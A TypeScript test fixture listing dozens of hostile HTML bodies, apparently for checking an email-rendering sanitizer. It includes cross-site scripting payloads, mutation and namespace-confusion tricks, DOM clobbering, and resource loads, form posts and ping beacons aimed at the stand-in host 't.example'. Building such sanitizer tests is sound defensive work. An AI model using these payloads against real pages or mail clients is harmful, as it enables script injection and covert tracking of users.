/** Bodies that try something, written for this product: one for each way in that we know of. `t.example` must never hear of them. */
export const hostileBodies: readonly { readonly name: string; readonly html: string }[] = (
  [
    ['script', '<p>x</p><script>alert(1)</script>'],
    ['script by address', '<script src="http://t.example/s.js"></script>x'],
    ['handler', '<img src=x onerror=alert(1)>'],
    ['handler in capitals', '<IMG SRC=x OnErRoR=alert(1)>'],
    ['handler without space', '<img/src=x/onerror=alert(1)>'],
    ['handler after a null', '<img src=x onerror\u0000=alert(1)>'],
    ['details', '<details open ontoggle=alert(1)><summary>x</summary>y</details>'],
    ['focus', '<input autofocus onfocus=alert(1)><p tabindex=0 autofocus onfocus=alert(1)>x</p>'],
    ['body handler', '<body onload=alert(1) onpageshow=alert(1) background="http://t.example/b">x'],
    ['animation', '<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart=alert(1)>x</p>'],
    ['script link', '<a href="javascript:alert(1)">x</a>'],
    ['script link with a tab', '<a href="java&Tab;script:alert(1)">x</a>'],
    ['script link, escaped', '<a href="&#x6A;avascript:alert(1)">x</a>'],
    ['script link behind a control', '<a href="\u0001javascript:alert(1)">x</a>'],
    ['script link, mixed', '<a href=" JaVaScRiPt:alert(1)">x</a>'],
    ['vbscript', '<a href="vbscript:msgbox(1)">x</a>'],
    ['data link', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
    ['blob link', '<a href="blob:http://t.example/x">x</a>'],
    [
      'system links',
      '<a href="file:///etc/passwd">a</a><a href="smb://t.example/s">b</a><a href="ms-msdt:/id">c</a><a href="search-ms:q">d</a><a href="ftp://t.example/">e</a>',
    ],
    ['target', '<base href="http://t.example/" target="_top"><a href="x" target="_top">x</a>'],
    ['ping', '<a href="https://ok.example/" ping="http://t.example/ping">x</a>'],
    ['refresh', '<meta http-equiv="refresh" content="0;url=http://t.example/">x'],
    ['meta policy', '<meta http-equiv="Content-Security-Policy" content="default-src *">x'],
    [
      'form',
      '<form action="http://t.example/f"><input name=childNodes><input name=attributes><button>x</button></form>',
    ],
    ['formaction', '<form id=f></form><button form=f formaction="javascript:alert(1)">x</button>'],
    ['form of forms', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'],
    ['image input', '<input type=image src="http://t.example/i">'],
    ['frame', '<iframe src="http://t.example/f"></iframe><iframe srcdoc="<script>parent.alert(1)</script>"></iframe>'],
    [
      'frame of data',
      '<iframe src="data:text/html,<script>alert(1)</script>"></iframe><frameset><frame src="http://t.example/"></frameset>',
    ],
    [
      'objects',
      '<object data="http://t.example/o"></object><embed src="http://t.example/e"><applet code="http://t.example/a"></applet>',
    ],
    ['portals', '<portal src="http://t.example/"></portal><fencedframe src="http://t.example/"></fencedframe>'],
    [
      'links',
      '<link rel=stylesheet href="http://t.example/c"><link rel=dns-prefetch href="//t.example"><link rel=preconnect href="http://t.example"><link rel=preload as=image href="http://t.example/p"><link rel=icon href="http://t.example/i">',
    ],
    [
      'media',
      '<video src="http://t.example/v" poster="http://t.example/p"><source src="http://t.example/s"><track src="http://t.example/t"></video><audio src="http://t.example/a" autoplay></audio><bgsound src="http://t.example/b">',
    ],
    [
      'pictures',
      '<img src="http://t.example/1"><img srcset="http://t.example/2 2x"><picture><source srcset="http://t.example/3"><img src="http://t.example/4"></picture><img src="//t.example/5"><img lowsrc="http://t.example/6" dynsrc="http://t.example/7">',
    ],
    [
      'odd addresses',
      '<img src="\\\\t.example\\x.png"><img src="/\\t.example/x"><img src="http:/t.example/x"><img src="ht\ntp://t.example/x"><img src="http://user@t.example/x"><img src="file://t.example/x"><img src="http://[::1]/x"><img src="http://2130706433/x"><img src="http://t.example./x">',
    ],
    [
      'old backgrounds',
      '<table background="http://t.example/1"><tr><td background="http://t.example/2">x</td></tr></table><marquee background="http://t.example/3">x</marquee>',
    ],
    [
      'svg',
      '<svg onload=alert(1)><image href="http://t.example/1"/><image xlink:href="http://t.example/2"/><filter><feImage href="http://t.example/3"/></filter><use href="http://t.example/4#a"/></svg>',
    ],
    ['svg animation', '<svg><a><animate attributeName="href " values="javascript:alert(1)"/><text>x</text></a></svg>'],
    [
      'svg use',
      "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=alert(1)></svg>#x\"/></svg>",
    ],
    [
      'svg picture',
      "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><image href='http://t.example/x'/></svg>\">",
    ],
    ['foreign', '<svg><foreignObject><body><img src=x onerror=alert(1)></body></foreignObject></svg>'],
    [
      'mathml',
      '<math href="javascript:alert(1)"><mtext>x</mtext></math><math><maction actiontype="statusline#http://t.example" xlink:href="javascript:alert(1)">x</maction></math>',
    ],
    [
      'namespaces',
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    ],
    ['namespaces of svg', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
    [
      'depth',
      `${'<div>'.repeat(600)}<table><caption><svg><title><table><caption></caption></table></title><style><a id="</style><img src=x onerror=alert(1)>">`,
    ],
    ['noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
    ['title', '<title><img title="</title><img src=x onerror=alert(1)>"></title>'],
    ['textarea', '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>'],
    [
      'template',
      '<template><img src=x onerror=alert(1)></template><div><template shadowrootmode=open><script>alert(1)</script></template></div>',
    ],
    [
      'comments',
      '<!--[if mso]><img src=x onerror=alert(1)><![endif]--><!--><img src=x onerror=alert(1)>--><!-- --!><img src=x onerror=alert(1)>-->',
    ],
    ['cdata', '<![CDATA[<img src=x onerror=alert(1)>]]><?xml-stylesheet href="http://t.example/x"?>'],
    [
      'clobbering',
      '<img name=getElementById><img name=body><form id=body></form><a id=defaultView></a><form name=documentElement><input name=attributes><input name=parentNode></form><p>x</p>',
    ],
    [
      'sheet',
      '<style>@import "http://t.example/1";@import url(http://t.example/2);@font-face{font-family:f;src:url(http://t.example/3)}p{background:url(http://t.example/4);font-family:f}</style><p>x</p>',
    ],
    [
      'sheet, written oddly',
      '<style>p{background:\\75rl(http://t.example/1)}p{background:u/**/rl(http://t.example/2)}p{background:image-set("http://t.example/3" 1x)}@media all{p{background:url(http://t.example/4)}}</style><p>x</p>',
    ],
    [
      'sheet that ends early',
      '<style>p{}</style><img src=x onerror=alert(1)><style>x</style><style><!--</style><script>alert(1)</script>--></style>',
    ],
    [
      'styles',
      '<p style="background:url(http://t.example/1)">a</p><p style="list-style-image:url(http://t.example/2)">b</p><p style="cursor:url(http://t.example/3),auto">c</p><p style="border-image:url(http://t.example/4) 1">d</p><p style="mask:url(http://t.example/5)">e</p><p style="content:url(http://t.example/6)">f</p><p style="filter:url(http://t.example/7)">g</p><p style="shape-outside:url(http://t.example/8)">h</p>',
    ],
    [
      'old styles',
      '<p style="width:expression(alert(1))">a</p><p style="behavior:url(http://t.example/x)">b</p><p style="-moz-binding:url(http://t.example/y)">c</p>',
    ],
    [
      'out of its box',
      '<div style="position:fixed;inset:0;z-index:99999;background:red">x</div><style>body{position:absolute;top:-900px}*{content:"x"}</style>',
    ],
    ['as tall as the sky', '<div style="height:300vh">x</div><div style="min-height:100dvh">y</div>'],
    [
      'custom properties',
      '<style>@property --u{syntax:"<url>";inherits:false;initial-value:url(http://t.example/1)}p{--u:url(http://t.example/2);background:var(--u)}</style><p>x</p>',
    ],
    [
      'after the wash',
      '<img src=\'cid:x"onerror="alert(1)\'><a href=\'http://g.example?"onmouseover="alert(1)\'>x</a>',
    ],
    [
      'our own marks',
      '<div data-mail data-href="javascript:alert(1)" data-unfold data-quote onclick=alert(1)>x</div><a data-href="javascript:alert(1)">y</a><img data-remote="http://t.example/x" data-cid="http://t.example/y">',
    ],
    [
      'popover',
      '<button popovertarget=p popovertargetaction=show>x</button><div popover id=p onbeforetoggle=alert(1)>y</div><dialog open>z</dialog>',
    ],
    [
      'editing',
      '<div contenteditable oninput=alert(1)>x</div><div draggable=true ondragstart=alert(1)>y</div><p is="x-y" slot=s part=p>z</p>',
    ],
    ['utf-7', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-'],
    [
      'elements of nobody',
      '<x-y onclick=alert(1)>a</x-y><o:p>b</o:p><blink onload=alert(1)>c</blink><isindex action="javascript:alert(1)"><keygen autofocus onfocus=alert(1)>',
    ],
    ['maps', '<map name=m><area shape=default href="javascript:alert(1)"></map><img usemap=#m src="cid:x">'],
    [
      'fonts',
      '<font color="red;background:url(http://t.example/x)" face="x\';background:url(http://t.example/y)">x</font><table bgcolor="url(http://t.example/z)"><tr><td>x</table>',
    ],
  ] as const
).map(([name, html]) => ({ name, html }));
